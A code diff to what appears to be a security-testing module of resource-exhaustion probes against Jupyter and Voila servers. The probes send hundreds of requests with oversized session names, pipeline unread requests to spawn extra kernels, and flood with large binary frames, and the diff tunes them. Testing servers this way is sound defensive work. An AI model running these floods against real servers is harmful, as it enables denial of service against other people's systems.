@@ -6,11 +6,13 @@ Each was shown to work on a site whose handlers were Jupyter's own.
 from __future__ import annotations
 
 import json
+import select
 import socket
 import time
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, suppress
+from http.client import HTTPConnection
 from urllib.parse import quote, urlsplit
 
 import psutil
@@ -87,9 +89,13 @@ def _is_kept(upgrade: bool) -> Callable[[Target], bool]:
     def succeeds(target: Target) -> bool:
         before = memory(target.site)
         headers = {"Connection": "Upgrade", "Upgrade": "websocket"} if upgrade else {}
-        for number in range(800):
+        connection = HTTPConnection(urlsplit(target.site.url).netloc, timeout=PATIENCE)
+        for number in range(500):
             name = f"{number}{'x' * 12_000}"
-            target.site.get(f"api/kernels/{target.own}/channels?session_id={name}", headers=headers)
+            path = f"/api/kernels/{target.own}/channels?session_id={name}"
+            connection.request("GET", path, headers=headers)
+            connection.getresponse().read()
+        connection.close()
         return memory(target.site) - before > GROWTH
 
     return succeeds
@@ -97,7 +103,7 @@ def _is_kept(upgrade: bool) -> Callable[[Target], bool]:
 
 def _pipelined(target: Target) -> bool:
     """Twenty lessons asked for at once on one connection that is not read: are there so many
-    kernels?"""
+    kernels, a second after the site has hung up?"""
     address = urlsplit(target.site.url)
     before = len(target.site.kernels())
     wanted = page(f"voila/render/{PLAIN}", Connection="keep-alive").encode()
@@ -105,8 +111,17 @@ def _pipelined(target: Target) -> bool:
         connection.sendall(wanted * 20)
         end = time.monotonic() + 6
         while time.monotonic() < end and len(target.site.kernels()) <= before + 1:
+            if _has_hung_up(connection):
+                end = min(end, time.monotonic() + 1)
             time.sleep(0.1)
         return len(target.site.kernels()) > before + 1
+
+
+def _has_hung_up(connection: socket.socket) -> bool:
+    """Whether the other side has closed a connection, though what it sent has yet to be read."""
+    poll = select.poll()
+    poll.register(connection, select.POLLRDHUP)
+    return bool(poll.poll(0))
 
 
 def _hung_up(target: Target) -> bool:
@@ -169,8 +184,8 @@ FLOODS = [
     ),
     Attack(
         "floods",
-        "a thousand frames of 4,000 parts, JSON",
-        _suffers([(4000).to_bytes(4, "big") + bytes(16_000)] * 1000, None),
+        "a hundred frames of 4,000 parts, JSON",
+        _suffers([(4000).to_bytes(4, "big") + bytes(16_000)] * 100, None),
     ),
     *(
         Attack("floods", f"a session name of {what}", _is_accepted(name))
